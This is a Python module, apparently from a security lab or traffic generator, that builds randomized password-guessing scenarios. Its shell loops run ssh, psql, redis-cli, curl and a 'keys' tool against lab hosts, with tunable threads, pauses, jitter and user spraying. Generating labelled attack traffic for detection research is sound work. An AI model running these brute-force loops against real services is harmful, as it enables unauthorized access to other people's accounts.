# SPDX-License-Identifier: Apache-2.0
"""Guesses by ordinary clients in loops (ssh, psql, redis-cli, curl) and by the program `keys`: fast, slow, over users, over hosts."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from lab.scenarios.attack.targets import attackers, ip_version, victim_with
from lab.scenarios.scenario import TCP, Attack, AttackDraft, DrawAttack, Leg, Scene, bracketed
from lab.services import misc, postgres, redis, vsftpd

_USERS = ("root", "admin", "test", "backup", "mira", "git", "oracle", "ubuntu")


def _rhythm(chance: Random) -> tuple[int, int, float]:
    """How many, how many at once, seconds between two: from many fast to few slow."""
    return chance.choice(
        (
            (chance.randint(40, 120), chance.choice((4, 8, 16)), 0.0),
            (chance.randint(20, 60), chance.choice((1, 2)), chance.choice((0.0, 0.2))),
            (chance.randint(12, 40), 1, chance.uniform(0.5, 2)),
            (chance.randint(8, 18), 1, chance.uniform(3, 8)),
        )
    )


def _loop(chance: Random, one: str, jitter: float = 0.4) -> tuple[str, int, str]:
    """A command, with $1 as the number of the guess, run again and again; the script, its limit, words for the rhythm."""
    count, width, pause = _rhythm(chance)
    rest = (
        f"sleep $(awk -v n=$1 'BEGIN {{srand(n); print {pause} * (1 + {jitter} * (2 * rand() - 1))}}')"
        if pause
        else "true"
    )
    script = f"guess() {{ {one}; {rest}; }}\nexport -f guess\nseq {count} | xargs -P {width} -n 1 bash -c 'guess $0'"
    return script, min(95, int(20 + count * (pause + 0.8) / width)), f"n={count}; threads={width}; pause={pause:.1f}"


def _victims(scene: Scene, chance: Random, service: str, most: int) -> list[str]:
    hosts = [h for h in scene.others(service) if not h.attacker and scene.network.seen(h)]
    version = 6 if chance.random() < 0.25 else 4
    chosen = chance.sample(hosts, min(len(hosts), chance.choice((1, 1, most))))
    return [scene.address(h, version) for h in chosen]


def _legs(scene: Scene, places: list[str], port: int) -> tuple[Leg, ...]:
    return tuple(Leg(scene.address(scene.host, 6 if ":" in p else 4), p, TCP, port) for p in places)


def _choice_of(words: list[str], number: str = "$1") -> str:
    """Shell for one of some words by the number of the guess."""
    return f"$(set -- {number} {' '.join(words)}; shift $(($1 % ($# - 1))); echo $2)"


def ssh(scene: Scene, chance: Random) -> AttackDraft | None:
    """Also several words in one connection (by askpass), several users, several hosts."""
    places = _victims(scene, chance, "sshd", 6)
    if not places:
        return None
    users = chance.sample(_USERS, chance.choice((1, 1, len(_USERS))))
    prompts = chance.choice((1, 1, 2, 3))
    options = f"-p {scene.network.ssh_port} -o NumberOfPasswordPrompts={prompts} -o PreferredAuthentications=password -o ConnectTimeout=6"
    extra = chance.choice(("", "-o Compression=yes", "-o Ciphers=aes128-ctr", "-o KexAlgorithms=ecdh-sha2-nistp256"))
    one = (
        f"SSH_ASKPASS=/tmp/ask SSH_ASKPASS_REQUIRE=force setsid -w ssh {options} {extra} "
        f"-l {_choice_of(users)} {_choice_of(places)} true"
    )
    script, limit, rhythm = _loop(chance, one)
    ask = "printf '#!/bin/sh\\necho word$$\\n' > /tmp/ask; chmod +x /tmp/ask\n"
    return AttackDraft(
        "brute_force",
        "openssh",
        f"ssh; users={len(users)}; hosts={len(places)}; prompts={prompts}; {rhythm}",
        ask + script,
        limit,
        _legs(scene, places, scene.network.ssh_port),
    )


def psql(scene: Scene, chance: Random) -> AttackDraft | None:
    places = _victims(scene, chance, "postgres", 2)
    if not places:
        return None
    mode = chance.choice(("disable", "prefer"))
    one = (
        f"PGCONNECT_TIMEOUT=5 PGSSLMODE={mode} PGPASSWORD=w$1 psql -X -q -h {_choice_of(places)} -p {postgres.PORT} "
        f"-U {_choice_of(list(chance.sample(('clerk', 'postgres', 'admin', 'app'), chance.choice((1, 4)))))} -d {postgres.DATABASE} -c 'select 1'"
    )
    script, limit, rhythm = _loop(chance, one)
    return AttackDraft("brute_force", "psql", f"postgres; {rhythm}", script, limit, _legs(scene, places, postgres.PORT))


def redis_cli(scene: Scene, chance: Random) -> AttackDraft | None:
    """A process for each word, or all words down one connection."""
    places = _victims(scene, chance, "redis", 2)
    if not places:
        return None
    client = f"redis-cli --no-auth-warning -h {places[0]} -p {redis.PORT}"
    if chance.random() < 0.4:
        count, pause = chance.randint(40, 300), chance.choice((0, 0.02, 0.2, 0.5))
        script = f"for n in $(seq {count}); do echo auth word$n; sleep {pause}; done | {client}"
        return AttackDraft(
            "brute_force",
            "redis-cli",
            f"one connection; n={count}; pause={pause}",
            script,
            75,
            _legs(scene, places[:1], redis.PORT),
        )
    script, limit, rhythm = _loop(chance, f"{client} -a word$1 ping")
    return AttackDraft("brute_force", "redis-cli", rhythm, script, limit, _legs(scene, places[:1], redis.PORT))


def _curl(scheme: str, service: str, port_of: Callable[[Scene], int], path: str = "") -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        places = _victims(scene, chance, service, 3)
        if not places:
            return None
        web, tls = scheme in ("basic", "form"), scheme in ("basic", "form") and chance.random() < 0.4
        port = scene.network.tls_port if tls else port_of(scene)
        kind = ("https" if tls else "http") if web else scheme
        urls = [f"{kind}://{bracketed(p)}:{port}{path}" for p in places]
        quiet, user = "-g -k -s -o /dev/null --max-time 8", chance.choice(_USERS)
        how = "-d user=%s -d password=%s" if scheme == "form" else "-u %s:%s"
        if web and chance.random() < 0.4:  # many guesses down one connection
            count, rate = chance.randint(30, 200), chance.choice((60, 300, 3000))
            steps = " --next ".join(f"{quiet} {how % (user, f'w{n}')} {urls[0]}" for n in range(count))
            script, limit, rhythm = f"curl --rate {rate}/m {steps}", 60, f"one connection; n={count}; rate={rate}/m"
            return AttackDraft(
                "brute_force", "curl", f"{scheme}; {rhythm}", script, limit, _legs(scene, places[:1], port)
            )
        script, limit, rhythm = _loop(chance, f"curl {quiet} {how % (user, 'word$1')} {_choice_of(urls)}")
        return AttackDraft(
            "brute_force", "curl", f"{scheme}; hosts={len(urls)}; {rhythm}", script, limit, _legs(scene, places, port)
        )

    return draw


def _keys(protocol: str, service: str, port_of: Callable[[Scene], int]) -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        victim = victim_with(scene, chance, service)
        if victim is None:
            return None
        version = ip_version(chance)
        own, source = attackers(scene, version, chance)
        web, seconds = protocol in ("form", "basic"), chance.randint(25, 90)
        tls = web and chance.random() < 0.4
        port = scene.network.tls_port if tls else port_of(scene)
        threads, pause = chance.choice(((1, 0.0), (8, 0.05), (3, 0.5), (1, 1.0), (1, 4.0), (2, 6.0)))
        words = (
            f"{protocol} {scene.address(victim, version)} {port} {source} --threads {threads} --pause {pause * chance.uniform(0.7, 1.3):.2f} "
            f"--jitter {chance.choice((0, 0.3, 0.9))} --count {chance.randint(25, 300)} --per-connection {chance.choice((1, 1, 3, 10))} "
            f"--rest {chance.choice((0, 0, 0.1))} --user {chance.choice(_USERS)} {chance.choice(('', '--spray'))} --seconds {seconds} "
            f"{'--tls' if tls else ''} {chance.choice(('', '--keep')) if web else ''} {'--path /admin/' if protocol == 'basic' else ''}"
        )
        return AttackDraft(
            "brute_force",
            "keys",
            f"{protocol}; threads={threads}; pause={pause}",
            scene.program("keys", chance, words),
            seconds + 8,
            (Leg(own, scene.address(victim, version), TCP, port),),
        )

    return draw


def _mail(port: int) -> Callable[[Scene], int]:
    return lambda scene: port


_KEYS = (
    ("ftp", "vsftpd", lambda scene: vsftpd.PORT),
    ("imap", "misc", _mail(misc.IMAP)),
    ("smtp", "misc", _mail(misc.SMTP)),
    ("telnet", "misc", _mail(misc.TELNET)),
    ("redis", "redis", lambda scene: redis.PORT),
    ("postgres", "postgres", lambda scene: postgres.PORT),
    ("form", "webapp", lambda scene: scene.network.web_port),
    ("basic", "nginx", lambda scene: scene.network.web_port),
)

ATTACKS = (
    Attack("ssh-client-guess", ssh, weight=5, group="brute_force"),
    Attack("psql-guess", psql, weight=2, group="brute_force"),
    Attack("redis-cli-guess", redis_cli, weight=2, group="brute_force"),
    Attack("curl-ftp-guess", _curl("ftp", "vsftpd", lambda scene: vsftpd.PORT, "/"), weight=2, group="brute_force"),
    Attack("curl-imap-guess", _curl("imap", "misc", _mail(misc.IMAP), "/INBOX"), group="brute_force"),
    Attack("curl-pop3-guess", _curl("pop3", "misc", _mail(misc.POP3), "/1"), group="brute_force"),
    Attack(
        "curl-basic-guess",
        _curl("basic", "nginx", lambda scene: scene.network.web_port, "/admin/"),
        weight=2,
        group="brute_force",
    ),
    Attack(
        "curl-form-guess",
        _curl("form", "webapp", lambda scene: scene.network.web_port, "/app/login"),
        weight=2,
        group="brute_force",
    ),
    *(
        Attack(f"keys-{protocol}", _keys(protocol, service, port), group="brute_force")
        for protocol, service, port in _KEYS
    ),
)
